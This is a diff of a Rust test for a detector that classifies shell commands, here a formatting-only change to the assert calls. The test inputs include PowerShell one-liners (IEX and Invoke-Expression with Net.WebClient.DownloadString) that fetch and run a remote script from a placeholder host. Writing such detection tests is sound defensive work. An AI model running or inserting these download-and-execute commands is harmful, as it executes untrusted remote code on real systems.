@@ -33,12 +33,19 @@ fn downloads_run_by_an_interpreter() {
         "IEX (New-Object Net.WebClient).DownloadString('https://x.example/a/b.ps1')",
         "Invoke-Expression ((New-Object Net.WebClient).DownloadString(\"https://x.example/i\"))",
     ] {
-        assert_eq!(kinds(line, Dialect::Pwsh).first().map(|k| k.0), Some(D), "{line}");
+        assert_eq!(
+            kinds(line, Dialect::Pwsh).first().map(|k| k.0),
+            Some(D),
+            "{line}"
+        );
     }
     // Saved to a file, the download runs nothing.
     assert!(
-        kinds("(New-Object Net.WebClient).DownloadFile('https://x.example/a.zip', 'a.zip')", Dialect::Pwsh)
-            .is_empty()
+        kinds(
+            "(New-Object Net.WebClient).DownloadFile('https://x.example/a.zip', 'a.zip')",
+            Dialect::Pwsh
+        )
+        .is_empty()
     );
     // A download saved, or piped into something that does not run it, is fine.
     assert!(posix("curl -fsSL https://x -o out.json | jq .").is_empty());
